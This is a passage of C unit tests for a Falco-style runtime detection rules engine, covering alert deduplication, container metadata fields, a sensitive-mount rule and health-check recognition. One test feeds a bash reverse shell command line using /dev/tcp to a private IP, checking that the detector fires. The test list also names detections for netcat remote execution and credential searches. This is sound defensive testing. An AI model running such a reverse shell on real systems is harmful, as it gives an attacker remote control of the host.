	cfg.dedup_window_ns = 1000000000ull;
	e = engine_with(NULL, text, &cfg);
	exec_event("/bin/bash", "bash -a", 0, 0, NULL, NULL, "img", false);
	assert_int_equal(rules_eval(e, &F.ev, NULL, NULL), 1);
	F.hdr.ts_ns += 1000; /* identical output, same container, within the window */
	assert_int_equal(rules_eval(e, &F.ev, NULL, NULL), 0);
	exec_event("/bin/bash", "bash -b", 0, 0, NULL, NULL, "img", false);
	assert_int_equal(rules_eval(e, &F.ev, NULL, NULL), 1);
	F.hdr.ts_ns += 2000000000ull; /* window over */
	assert_int_equal(rules_eval(e, &F.ev, NULL, NULL), 1);
	rules_engine_stats(e, &st);
	assert_int_equal(st.deduplicated, 1);
	rules_engine_free(e);
}

static void test_default_rules_fire(void **state)
{
	struct rules_config cfg;
	struct rules_engine *e = NULL;

	(void)state;
	rules_config_default(&cfg);
	cfg.ancestor = test_ancestor;
	assert_int_equal(rules_engine_new(&cfg, &e), 0);
	assert_int_equal(rules_engine_add_default(e), 0);
	assert_int_equal(rules_engine_compile(e), 0);
	assert_int_equal(rules_engine_cannot_fire_count(e), 0); /* every default rule can fire */
	/* each rule's own cases: tests/unit/test_default_rules.c */
	expect(e, exec_event("/tmp/.x/kworker", "kworker", 0, 0, "sh", NULL, NULL, false),
	       "Program run from a temporary directory", true);
	expect(e, exec_event("/tmpfoo/kworker", "kworker", 0, 0, "sh", NULL, NULL, false),
	       "Program run from a temporary directory", false);
	expect(e, exec_event("/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 0, 0, "sh", NULL, NULL, false),
	       "Reverse shell command line", true);
	rules_engine_free(e);
}

/* A container with two mounts, a HEALTHCHECK, the host's namespaces and a
 * start time, or (bare) none of them. */
static void give_engine_facts(bool bare)
{
	static struct container_mount mounts[] = {
		{ "/proc", "/hostproc", "ro", "rprivate", false },
		{ "/var/run/docker.sock", "/var/run/docker.sock", "", "rprivate", true },
	};
	static const char health[] = "/bin/sh\0-c\0curl -f localhost";

	F.ci.ip = bare ? "" : "172.17.0.5";
	F.ci.mounts = bare ? NULL : mounts;
	F.ci.n_mounts = bare ? 0 : 2;
	F.ci.health_argv = bare ? "" : (char *)health;
	F.ci.health_len = bare ? 0 : sizeof(health) - 1;
	F.ci.host_pid = F.ci.host_network = F.ci.host_ipc = !bare;
	F.ci.start_ns = bare ? 0 : (uint64_t)BOOT_TO_REAL + 1000000000ull;
}

static const char *render_ctr(const char *out, const struct event *ev)
{
	static char text[2048];
	struct rules_config cfg;
	struct rules_engine *e;

	rules_config_default(&cfg);
	cfg.append_container = false;
	snprintf(text, sizeof(text), "- rule: r\n  desc: d\n  priority: INFO\n  output: '%s'\n"
		 "  condition: evt.type = execve\n", out);
	e = engine_with(NULL, text, &cfg);
	reset_alerts();
	rules_eval(e, ev, collect, NULL);
	assert_int_equal(A.n, 1);
	snprintf(text, sizeof(text), "%s", strchr(A.output, ' ') + 1);
	rules_engine_free(e);
	return strstr(text, "Informational ") ? text + strlen("Informational ") : text;
}

/*
 * Every container.* field Falco's files use, with a container that has the
 * property and one that has not; a host process has none of them.
 */
static void test_container_engine_fields(void **state)
{
	const char *o = "%container.mounts|%container.mount.dest[/proc*]|"
			"%container.mount.source[/var/run/*]|%container.mount[1]|%container.mount.mode[0]|"
			"%container.mount.rdwr[/var/run/docker.sock]|%container.mount.propagation[0]|"
			"%container.mount.dest[/etc]|%container.healthcheck|%container.ip|"
			"%container.host_pid|%container.start_ts|%container.duration|"
			"%container.privileged|%container.image.repository|%container.image.tag";

	(void)state;
	exec_event("/bin/sh", "sh", 0, 0, "containerd-shim", NULL, "reg:5000/app:v1", true);
	give_engine_facts(false);
	assert_string_equal(render_ctr(o, &F.ev),
		"/proc:/hostproc:ro:false:rprivate,/var/run/docker.sock:/var/run/docker.sock::true:rprivate|"
		"/hostproc|/var/run/docker.sock|/var/run/docker.sock:/var/run/docker.sock::true:rprivate|"
		"ro|true|rprivate|N/A|/bin/sh -c curl -f localhost|172.17.0.5|true|"
		"1700000001000000000|4000000000|true|reg:5000/app|v1");
	exec_event("/bin/sh", "sh", 0, 0, "containerd-shim", NULL, "app", false);
	give_engine_facts(true);
	assert_string_equal(render_ctr(o, &F.ev),
		"|N/A|N/A|N/A|N/A|N/A|N/A|N/A|NONE|<NA>|false|<NA>|<NA>|false|app|<NA>");
	exec_event("/bin/sh", "sh", 0, 0, "sshd", NULL, NULL, false);
	assert_string_equal(render_ctr(o, &F.ev),
		"<NA>|<NA>|<NA>|<NA>|<NA>|<NA>|<NA>|<NA>|<NA>|<NA>|<NA>|<NA>|<NA>|<NA>|<NA>|<NA>");
}

/* Falco's sandbox rule: a container's first process, with a /proc mount;
 * the near-miss: the same container start without mounts. */
static void test_launch_sensitive_mount_container(void **state)
{
	FALCO_NEED("falco-sandbox_rules.yaml");
	const char *r = "Launch Sensitive Mount Container";
	struct rules_engine *e = engine_with(falco_file("falco-sandbox_rules.yaml"), NULL, NULL);

	(void)state;
	exec_event("/bin/sleep", "sleep 60", 0, 0, "containerd-shim", NULL, "app", false);
	F.self.vpid = 1;
	give_engine_facts(false);
	expect(e, &F.ev, r, true);
	assert_non_null(strstr(A.output, "mounts=/proc:/hostproc:ro:false:rprivate"));
	give_engine_facts(true);
	expect(e, &F.ev, r, false);
	rules_engine_free(e);
}

/* The HEALTHCHECK's command started by the engine is the health check; the
 * same command run by the container's own pid 1 (or another command) is not. */
static void as_probe(struct proc_entry *p, const char *argv, size_t len)
{
	p->args = (char *)argv;
	p->args_len = (uint32_t)len;
}

#define PROBE "/bin/sh\0-c\0curl -f localhost"

static void test_is_container_healthcheck(void **state)
{
	const char *o = "%proc.is_container_healthcheck";

	(void)state;
	exec_event("/bin/sh", "sh", 0, 0, "containerd-shim", NULL, "app", false);
	give_engine_facts(false);
	as_probe(&F.self, PROBE, sizeof(PROBE));
	assert_string_equal(render_ctr(o, &F.ev), "true");
	/* a descendant of the health check (curl) is one too */
	exec_event("/usr/bin/curl", "curl -f localhost", 0, 0, "sh", "containerd-shim", "app", false);
	give_engine_facts(false);
	as_probe(&F.parent, PROBE, sizeof(PROBE));
	assert_string_equal(render_ctr(o, &F.ev), "true");
	F.gparent.vpid = 1; /* ... but not under the container's pid 1 */
	assert_string_equal(render_ctr(o, &F.ev), "false");
	exec_event("/bin/sh", "sh", 0, 0, "containerd-shim", NULL, "app", false);
	give_engine_facts(false);
	as_probe(&F.self, "/bin/sh\0-c\0curl -f evil", sizeof("/bin/sh\0-c\0curl -f evil"));
	assert_string_equal(render_ctr(o, &F.ev), "false");
	exec_event("/bin/sh", "sh", 0, 0, "containerd-shim", NULL, "app", false);
	give_engine_facts(true);
	as_probe(&F.self, PROBE, sizeof(PROBE));
	assert_string_equal(render_ctr(o, &F.ev), "false");
}

int main(void)
{
	const struct CMUnitTest falco[] = {
		cmocka_unit_test_setup_teardown(test_terminal_shell_in_container, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_run_shell_untrusted, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_netcat_rce_in_container, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_search_private_keys, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_remove_bulk_data, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_debugfs_privileged, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_find_aws_credentials, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_execution_from_dev_shm_cwd, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_execution_from_dev_shm, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_system_user_interactive, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_user_name_from_container_accounts, setup_falco, teardown),
		cmocka_unit_test_setup_teardown(test_alert_json_schema, setup_falco, teardown),
	};
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_container_engine_fields, NULL, teardown_alerts),
		cmocka_unit_test_setup_teardown(test_launch_sensitive_mount_container, NULL,
						teardown_alerts),
		cmocka_unit_test_setup_teardown(test_is_container_healthcheck, NULL, teardown_alerts),
		cmocka_unit_test(test_output_na_and_indexes),
		cmocka_unit_test(test_container_info),
		cmocka_unit_test(test_rule_selection),
		cmocka_unit_test(test_append_output),
		cmocka_unit_test(test_json_omit),
		cmocka_unit_test(test_operators),
		cmocka_unit_test(test_regex_bound_fails_closed),
		cmocka_unit_test(test_evttype_index_and_first_match),
		cmocka_unit_test(test_shared_comparisons),
		cmocka_unit_test(test_shared_values),
		cmocka_unit_test(test_rate_limit_and_dedup),
		cmocka_unit_test(test_default_rules_fire),
	};
	int ret = falco_run_group("rules_eval falco stable", falco, NULL, NULL, "falco_rules.yaml");

	ret += cmocka_run_group_tests_name("rules_eval", tests, NULL, NULL);
	reset_alerts();
	return ret;
}
